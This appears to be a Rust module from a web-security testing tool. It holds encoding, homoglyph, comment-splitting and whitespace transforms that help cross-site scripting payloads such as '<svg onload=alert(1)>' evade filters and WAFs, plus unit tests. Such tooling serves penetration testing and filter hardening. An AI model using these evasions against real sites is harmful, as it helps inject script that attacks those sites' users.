//! Payload transforms for filter and WAF evasion
//!
//! Every transform takes the payload text and returns `None` when it does not
//! apply (nothing to rewrite, or a character outside its mapping table). The
//! mutation engine skips those, so one transform can never abort a batch.

use rand::Rng;

/// Tamper function type
pub type TamperFn = fn(&str) -> Option<String>;

/// Keywords split or padded by the noise transforms.
pub const SENSITIVE_KEYWORDS: &[&str] = &["script", "alert", "onload", "onerror", "javascript"];

/// Unicode whitespace accepted by some parsers where ASCII space is filtered.
pub const UNICODE_SPACES: &[char] = &[
    '\t', '\n', '\r', '\u{0c}', '\u{0b}', '\u{a0}', '\u{2000}', '\u{2001}', '\u{2002}',
    '\u{2003}', '\u{2004}', '\u{2005}', '\u{2006}', '\u{2007}', '\u{2008}', '\u{2009}',
    '\u{200a}', '\u{2028}', '\u{2029}', '\u{202f}', '\u{205f}', '\u{3000}',
];

const ZERO_WIDTH: &[char] = &['\u{200b}', '\u{200c}', '\u{200d}', '\u{feff}'];

/// Get tamper function by name
pub fn get_tamper(name: &str) -> Option<TamperFn> {
    let name = name.to_ascii_lowercase();
    TAMPERS.iter().find(|(n, _)| *n == name).map(|(_, f)| *f)
}

const TAMPERS: &[(&str, TamperFn)] = &[
    // Encodings
    ("urlencode", urlencode),
    ("doubleurlencode", doubleurlencode),
    ("htmldecimal", htmldecimal),
    ("htmlhex", htmlhex),
    ("htmlnamed", htmlnamed),
    ("uppercase", uppercase),
    ("lowercase", lowercase),
    ("titlecase", titlecase),
    ("swapcase", swapcase),
    ("randomcase", randomcase),
    ("unicodeescape", unicodeescape),
    ("hexescape", hexescape),
    ("fullwidth", fullwidth),
    ("cyrillic", cyrillic),
    // Structural noise
    ("nullbytes", nullbytes),
    ("zerowidth", zerowidth),
    ("keywordcomment", keywordcomment),
    ("structuralcomment", structuralcomment),
    ("slashcomment", slashcomment),
    ("space2comment", space2comment),
    ("space2slash", space2slash),
    ("space2tab", space2tab),
    ("space2newline", space2newline),
    ("space2unicode", space2unicode),
    // Vendor-specific
    ("dotlessi", dotlessi),
    ("ltgthex", ltgthex),
    ("alerthex", alerthex),
    ("commentpadding", commentpadding),
    ("emptytagprefix", emptytagprefix),
    ("equalarrow", equalarrow),
    ("trailingspaces", trailingspaces),
    ("ltgtpercent", ltgtpercent),
    ("keywordbackslash", keywordbackslash),
    ("semicolonpadding", semicolonpadding),
    ("equalhex", equalhex),
];

fn changed(original: &str, out: String) -> Option<String> {
    if out == original {
        None
    } else {
        Some(out)
    }
}

fn replace_ci(payload: &str, keyword: &str, replacement: impl Fn(&str) -> String) -> String {
    let lower = payload.to_ascii_lowercase();
    let mut out = String::with_capacity(payload.len());
    let mut last = 0;
    for (idx, _) in lower.match_indices(keyword) {
        out.push_str(&payload[last..idx]);
        out.push_str(&replacement(&payload[idx..idx + keyword.len()]));
        last = idx + keyword.len();
    }
    out.push_str(&payload[last..]);
    out
}

fn split_keywords(payload: &str, filler: &str) -> String {
    let mut out = payload.to_string();
    for keyword in SENSITIVE_KEYWORDS {
        out = replace_ci(&out, keyword, |kw| {
            let mid = kw.len() / 2;
            format!("{}{}{}", &kw[..mid], filler, &kw[mid..])
        });
    }
    out
}

// ---- encodings ----

pub fn urlencode(payload: &str) -> Option<String> {
    changed(payload, urlencoding::encode(payload).into_owned())
}

pub fn doubleurlencode(payload: &str) -> Option<String> {
    let once = urlencoding::encode(payload).into_owned();
    changed(payload, urlencoding::encode(&once).into_owned())
}

fn entity_ltgt(payload: &str, lt: &str, gt: &str) -> Option<String> {
    changed(payload, payload.replace('<', lt).replace('>', gt))
}

pub fn htmldecimal(payload: &str) -> Option<String> {
    entity_ltgt(payload, "&#60;", "&#62;")
}

pub fn htmlhex(payload: &str) -> Option<String> {
    entity_ltgt(payload, "&#x3c;", "&#x3e;")
}

pub fn htmlnamed(payload: &str) -> Option<String> {
    entity_ltgt(payload, "&lt;", "&gt;")
}

pub fn uppercase(payload: &str) -> Option<String> {
    changed(payload, payload.to_uppercase())
}

pub fn lowercase(payload: &str) -> Option<String> {
    changed(payload, payload.to_lowercase())
}

pub fn titlecase(payload: &str) -> Option<String> {
    let mut start = true;
    let out: String = payload
        .chars()
        .map(|c| {
            let mapped = if start {
                c.to_ascii_uppercase()
            } else {
                c.to_ascii_lowercase()
            };
            start = !c.is_ascii_alphanumeric();
            mapped
        })
        .collect();
    changed(payload, out)
}

pub fn swapcase(payload: &str) -> Option<String> {
    let out: String = payload
        .chars()
        .map(|c| {
            if c.is_ascii_uppercase() {
                c.to_ascii_lowercase()
            } else {
                c.to_ascii_uppercase()
            }
        })
        .collect();
    changed(payload, out)
}

pub fn randomcase(payload: &str) -> Option<String> {
    let mut rng = rand::thread_rng();
    let out: String = payload
        .chars()
        .map(|c| {
            if rng.gen_bool(0.5) {
                c.to_ascii_uppercase()
            } else {
                c.to_ascii_lowercase()
            }
        })
        .collect();
    changed(payload, out)
}

pub fn unicodeescape(payload: &str) -> Option<String> {
    let mut out = String::with_capacity(payload.len() * 6);
    for unit in payload.encode_utf16() {
        out.push_str(&format!("\\u{:04x}", unit));
    }
    changed(payload, out)
}

/// Fails on characters above U+00FF, which `\xHH` cannot express.
pub fn hexescape(payload: &str) -> Option<String> {
    let mut out = String::with_capacity(payload.len() * 4);
    for c in payload.chars() {
        let code = u32::from(c);
        if code > 0xff {
            return None;
        }
        out.push_str(&format!("\\x{:02x}", code));
    }
    changed(payload, out)
}

pub fn fullwidth(payload: &str) -> Option<String> {
    let out: String = payload
        .chars()
        .map(|c| match c {
            '!'..='~' => char::from_u32(u32::from(c) - 0x21 + 0xff01).unwrap_or(c),
            _ => c,
        })
        .collect();
    changed(payload, out)
}

pub fn cyrillic(payload: &str) -> Option<String> {
    let out: String = payload
        .chars()
        .map(|c| match c {
            'a' => 'а',
            'c' => 'с',
            'e' => 'е',
            'i' => 'і',
            'j' => 'ј',
            'o' => 'о',
            'p' => 'р',
            's' => 'ѕ',
            'x' => 'х',
            'y' => 'у',
            'A' => 'А',
            'C' => 'С',
            'E' => 'Е',
            'O' => 'О',
            'P' => 'Р',
            'X' => 'Х',
            _ => c,
        })
        .collect();
    changed(payload, out)
}

// ---- structural noise ----

pub fn nullbytes(payload: &str) -> Option<String> {
    let out: String = payload
        .chars()
        .flat_map(|c| match c {
            '<' | '(' => vec![c, '\0'],
            '>' | ')' => vec!['\0', c],
            _ => vec![c],
        })
        .collect();
    changed(payload, out)
}

pub fn zerowidth(payload: &str) -> Option<String> {
    let zw = ZERO_WIDTH[rand::thread_rng().gen_range(0..ZERO_WIDTH.len())];
    changed(payload, split_keywords(payload, &zw.to_string()))
}

pub fn keywordcomment(payload: &str) -> Option<String> {
    changed(payload, split_keywords(payload, "/**/"))
}

pub fn structuralcomment(payload: &str) -> Option<String> {
    let out = payload
        .replace('(', "/**/(")
        .replace(')', ")/**/")
        .replace('=', "/**/=/**/")
        .replace(';', ";/**/");
    changed(payload, out)
}

pub fn slashcomment(payload: &str) -> Option<String> {
    changed(payload, payload.replace('/', "/**/"))
}

/// Replace spaces with `/**/`, which the HTML tokenizer skips between attributes
pub fn space2comment(payload: &str) -> Option<String> {
    changed(payload, payload.replace(' ', "/**/"))
}

pub fn space2slash(payload: &str) -> Option<String> {
    changed(payload, payload.replace(' ', "/"))
}

pub fn space2tab(payload: &str) -> Option<String> {
    changed(payload, payload.replace(' ', "\t"))
}

pub fn space2newline(payload: &str) -> Option<String> {
    changed(payload, payload.replace(' ', "\n"))
}

pub fn space2unicode(payload: &str) -> Option<String> {
    let mut rng = rand::thread_rng();
    let out: String = payload
        .chars()
        .map(|c| {
            if c == ' ' {
                UNICODE_SPACES[rng.gen_range(0..UNICODE_SPACES.len())]
            } else {
                c
            }
        })
        .collect();
    changed(payload, out)
}

// ---- vendor-specific ----

pub fn dotlessi(payload: &str) -> Option<String> {
    changed(payload, replace_ci(payload, "script", |kw| kw.replacen(['i', 'I'], "ı", 1)))
}

pub fn ltgthex(payload: &str) -> Option<String> {
    entity_ltgt(payload, "\\x3c", "\\x3e")
}

pub fn alerthex(payload: &str) -> Option<String> {
    changed(payload, replace_ci(payload, "alert", |kw| format!("{}\\x65{}", &kw[..2], &kw[3..])))
}

pub fn commentpadding(payload: &str) -> Option<String> {
    Some(format!("<!--{}-->{}", "A".repeat(512), payload))
}

pub fn emptytagprefix(payload: &str) -> Option<String> {
    Some(format!("<>{}", payload))
}

pub fn equalarrow(payload: &str) -> Option<String> {
    changed(payload, payload.replace('=', "=>"))
}

pub fn trailingspaces(payload: &str) -> Option<String> {
    Some(format!("{}{}", payload, " ".repeat(64)))
}

pub fn ltgtpercent(payload: &str) -> Option<String> {
    entity_ltgt(payload, "%3C", "%3E")
}

pub fn keywordbackslash(payload: &str) -> Option<String> {
    let out = replace_ci(payload, "script", |kw| format!("{}\\{}", &kw[..3], &kw[3..]));
    let out = replace_ci(&out, "onload", |kw| format!("{}\\{}", &kw[..2], &kw[2..]));
    changed(payload, out)
}

pub fn semicolonpadding(payload: &str) -> Option<String> {
    Some(format!("{}{}", payload, ";".repeat(10)))
}

pub fn equalhex(payload: &str) -> Option<String> {
    changed(payload, payload.replace('=', "\\x3d"))
}

#[cfg(test)]
mod tests {
    use super::*;

    const P: &str = "<svg onload=alert(1)>";

    #[test]
    fn test_registry_lookup() {
        assert!(get_tamper("URLENCODE").is_some());
        assert!(get_tamper("nope").is_none());
        for (name, _) in TAMPERS {
            assert!(get_tamper(name).is_some(), "{} not resolvable", name);
        }
    }

    #[test]
    fn test_urlencode_roundtrips() {
        let encoded = urlencode(P).unwrap();
        assert_eq!(urlencoding::decode(&encoded).unwrap(), P);
        let twice = doubleurlencode(P).unwrap();
        let once = urlencoding::decode(&twice).unwrap().into_owned();
        assert_eq!(urlencoding::decode(&once).unwrap(), P);
    }

    #[test]
    fn test_entities() {
        assert_eq!(htmlnamed(P).unwrap(), "&lt;svg onload=alert(1)&gt;");
        assert_eq!(htmldecimal("<b>").unwrap(), "&#60;b&#62;");
        assert!(htmlhex("no brackets").is_none());
    }

    #[test]
    fn test_case_transforms() {
        assert_eq!(swapcase("aB").unwrap(), "Ab");
        assert_eq!(titlecase("<svg onload>").unwrap(), "<Svg Onload>");
        if let Some(mixed) = randomcase(P) {
            assert_eq!(mixed.to_lowercase(), P);
        }
    }

    #[test]
    fn test_hexescape_rejects_wide_chars() {
        assert_eq!(hexescape("<a").unwrap(), "\\x3c\\x61");
        assert!(hexescape("<ſ").is_none());
    }

    #[test]
    fn test_unicodeescape() {
        assert_eq!(unicodeescape("<").unwrap(), "\\u003c");
    }

    #[test]
    fn test_homoglyphs_fall_back() {
        let out = cyrillic("<script>").unwrap();
        assert!(out.starts_with('<'));
        assert_ne!(out, "<script>");
        assert_eq!(fullwidth("<").unwrap(), "＜");
        assert_eq!(fullwidth("é"), None);
    }

    #[test]
    fn test_keyword_splitting() {
        assert_eq!(keywordcomment("<SCRIPT>").unwrap(), "<SCR/**/IPT>");
        assert_eq!(keywordcomment(P).unwrap(), "<svg onl/**/oad=al/**/ert(1)>");
        assert!(zerowidth("nothing").is_none());
    }

    #[test]
    fn test_vendor_transforms() {
        assert_eq!(dotlessi("<script>").unwrap(), "<scrıpt>");
        assert_eq!(alerthex("alert(1)").unwrap(), "al\\x65rt(1)");
        assert_eq!(keywordbackslash("<script onload>").unwrap(), "<scr\\ipt on\\load>");
        assert_eq!(space2comment("a b").unwrap(), "a/**/b");
        assert!(commentpadding("x").unwrap().ends_with("-->x"));
    }

    #[test]
    fn test_slashcomment() {
        assert_eq!(slashcomment("<svg/onload=alert(1)>").unwrap(), "<svg/**/onload=alert(1)>");
        assert!(slashcomment(P).is_none());
    }

    #[test]
    fn test_nullbytes() {
        assert_eq!(nullbytes("<a>").unwrap(), "<\0a\0>");
    }
}
